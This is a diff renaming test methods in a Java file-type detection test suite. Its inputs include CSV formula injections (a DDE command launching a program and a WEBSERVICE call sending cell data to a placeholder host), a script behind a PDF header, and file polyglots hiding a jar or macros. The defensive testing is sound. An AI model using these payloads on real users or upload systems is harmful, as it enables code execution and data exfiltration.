@@ -27,7 +27,7 @@ class FileTypeTest {
     private static final String DOCX_MAIN = FileType.DOCX.mediaType() + ".main+xml";
 
     @Test
-    void what_scanners_and_phones_make_is_known() throws IOException {
+    void files_of_scanners_and_phones_are_recognised() throws IOException {
         assertThat(FileType.detect(SmallFiles.pdf())).contains(FileType.PDF);
         assertThat(FileType.detect(SmallFiles.image("jpeg"))).contains(FileType.JPEG);
         assertThat(FileType.detect(SmallFiles.image("png"))).contains(FileType.PNG);
@@ -38,7 +38,7 @@ class FileTypeTest {
     }
 
     @Test
-    void office_documents_are_known_by_what_their_container_holds() throws IOException {
+    void office_documents_are_recognised_by_the_content_of_their_container() throws IOException {
         assertThat(FileType.detect(SmallFiles.docx())).contains(FileType.DOCX);
         assertThat(FileType.detect(SmallFiles.xlsx())).contains(FileType.XLSX);
         assertThat(FileType.detect(SmallFiles.pptx())).contains(FileType.PPTX);
@@ -61,13 +61,13 @@ class FileTypeTest {
                 "plain words with a \u0001 control character",
                 "From: a@example.com\nSubject: a mail\nMessage-ID: <1@example.com>\nReceived: x\n\nwords"
             })
-    void whatever_else_there_is_is_refused(String content) {
+    void other_file_types_are_refused(String content) {
         assertThat(FileType.detect(text(content))).isEmpty();
     }
 
     @ParameterizedTest
     @ValueSource(strings = {"x", "日期,金额\r\n2019-05-20,50000.00\r\n", "\uFEFF聊天记录：\n\t什么时候兑付？", "一页\f又一页"})
-    void text_is_known_in_every_encoding_in_use(String words) {
+    void text_is_recognised_in_every_usual_encoding(String words) {
         for (var encoding : List.of("UTF-8", "GB18030", "UTF-16")) {
             assertThat(FileType.detect(words.getBytes(Charset.forName(encoding))))
                     .as(encoding)
@@ -79,7 +79,7 @@ class FileTypeTest {
     }
 
     @Test
-    void a_table_that_starts_a_program_or_asks_a_server_when_it_is_opened_says_so() {
+    void a_csv_file_that_starts_a_program_or_calls_a_server_gets_a_warning() {
         assertThat(ExaminedFile.of(text("name,amount\n=cmd|' /C calc'!A0,1\n")).warnings())
                 .containsExactly(FileWarning.RUNS_PROGRAM);
         assertThat(ExaminedFile.of(text("a;\"=WEBSERVICE(\"\"http://x/\"\"&A1)\"\n"))
@@ -89,7 +89,7 @@ class FileTypeTest {
     }
 
     @Test
-    void an_ofd_document_is_known_by_its_root() throws IOException {
+    void an_ofd_document_is_recognised_by_its_root() throws IOException {
         var root =
                 "<?xml version=\"1.0\" encoding=\"UTF-8\"?><ofd:OFD xmlns:ofd=\"http://www.ofdspec.org/2016\" Version=\"1.0\"/>";
         assertThat(FileType.detect(zip(Map.of("OFD.xml", text(root))))).contains(FileType.OFD);
@@ -98,7 +98,7 @@ class FileTypeTest {
     }
 
     @Test
-    void the_web_client_offers_the_kinds_that_are_taken() throws IOException {
+    void the_web_client_offers_the_accepted_file_types() throws IOException {
         var offered = Files.readString(Path.of("src/main/webui/src/features/registration/evidenceTypes.ts"));
         assertThat(Pattern.compile("\\.([a-z]+)(?=[,'])")
                         .matcher(offered)
@@ -110,20 +110,20 @@ class FileTypeTest {
     }
 
     @Test
-    void a_script_behind_a_pdf_header_is_no_pdf() {
+    void a_script_with_a_pdf_header_is_refused() {
         assertThat(FileType.detect(text("%PDF-1.4\n<script>alert(1)</script>"))).isEmpty();
         assertThat(FileType.detect(text("<script>/*\n%PDF-1.4\n%%EOF"))).isEmpty();
     }
 
     @Test
-    void a_pdf_or_a_picture_with_an_archive_behind_it_is_refused() throws IOException {
+    void a_pdf_or_a_picture_followed_by_an_archive_is_refused() throws IOException {
         var jar = zip(Map.of("META-INF/MANIFEST.MF", text("Main-Class: Evil\n")));
         assertThat(FileType.detect(joined(SmallFiles.pdf(), jar))).isEmpty();
         assertThat(FileType.detect(joined(SmallFiles.image("png"), jar))).isEmpty();
     }
 
     @Test
-    void a_plain_archive_is_refused_also_when_it_claims_to_be_a_document() throws IOException {
+    void a_plain_archive_is_refused_even_if_it_claims_to_be_a_document() throws IOException {
         assertThat(FileType.detect(zip(Map.of("合同.pdf", SmallFiles.pdf())))).isEmpty();
         assertThat(FileType.detect(zip(Map.of("word/document.xml", text("<w/>")))))
                 .isEmpty();
@@ -144,14 +144,14 @@ class FileTypeTest {
     }
 
     @Test
-    void containers_of_something_else_are_refused() throws IOException {
+    void containers_with_other_content_are_refused() throws IOException {
         assertThat(FileType.detect(SmallFiles.ole("EncryptedPackage", "EncryptionInfo")))
                 .isEmpty();
         assertThat(FileType.detect(SmallFiles.ole("WordDocument", "Workbook"))).isEmpty();
     }
 
     @Test
-    void a_document_in_which_readers_find_different_files_is_refused() throws IOException {
+    void a_document_that_programs_read_differently_is_refused() throws IOException {
         var macros = zip(Map.of("word/vbaProject.bin", text("x")));
         assertThat(FileType.detect(ForgedZip.oneBehindTheOther(macros, SmallFiles.docx())))
                 .isEmpty();
@@ -177,7 +177,7 @@ class FileTypeTest {
     }
 
     @Test
-    void damaged_containers_are_refused_and_never_fail() throws IOException {
+    void damaged_containers_are_refused_without_other_errors() throws IOException {
         var random = new Random(7);
         assertThat(FileType.detect(Arrays.copyOf(SmallFiles.docx(), 1000))).isEmpty();
         for (var whole : new byte[][] {SmallFiles.docx(), SmallFiles.xls()}) {
